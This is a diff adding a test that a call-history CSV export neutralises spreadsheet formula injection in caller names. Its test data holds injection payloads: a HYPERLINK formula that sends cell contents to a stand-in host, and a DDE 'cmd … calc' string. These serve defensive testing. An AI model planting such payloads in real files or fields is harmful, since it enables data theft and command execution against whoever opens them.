@@ -4,6 +4,8 @@ or oversized bodies get a 4xx with a message."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import time
 from collections.abc import AsyncIterator
@@ -148,3 +150,25 @@ async def test_bad_bodies_get_clear_4xx(pair: tuple[TestClient, World]) -> None:
     assert r.status == 422
     errors = (await r.json())["error"]["errors"]
     assert errors and errors[0]["line"] == 2
+
+
+async def test_history_export_defuses_spreadsheet_formulas(
+        pair: tuple[TestClient, World]) -> None:
+    """A caller chooses the name (and user part) their call shows; the CSV export must not
+    hand a spreadsheet a formula in any of the ways one starts, while a dialable number such
+    as +34… stays a number."""
+    client, world = pair
+    a = world.users["a"]
+    names = ["+HYPERLINK(\"http://x.example/?\"&A1,\"x\")", "-2+3+cmd|' /C calc'!A0",
+             "=1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "Ana López"]
+    for i, name in enumerate(names):
+        await add_cdr(world.store, a, started_at=1_700_000_000 + i, caller="+34600111222",
+                      callee="2001", caller_name=name)
+    await add_cdr(world.store, a, started_at=1_700_000_100, caller="+SUM(9)", callee="2001")
+    r = await client.get("/fonbo/history/export", headers=world.auth(a))
+    assert r.status == 200
+    rows = list(csv.DictReader(io.StringIO(await r.text(), newline="")))
+    assert [row["peer_name"] for row in rows[:len(names)]] == [
+        "'" + n for n in names[:-1]] + ["Ana López"]
+    assert all(row["peer_number"] == "+34600111222" for row in rows[:len(names)])
+    assert rows[-1]["peer_number"] == "'+SUM(9)"
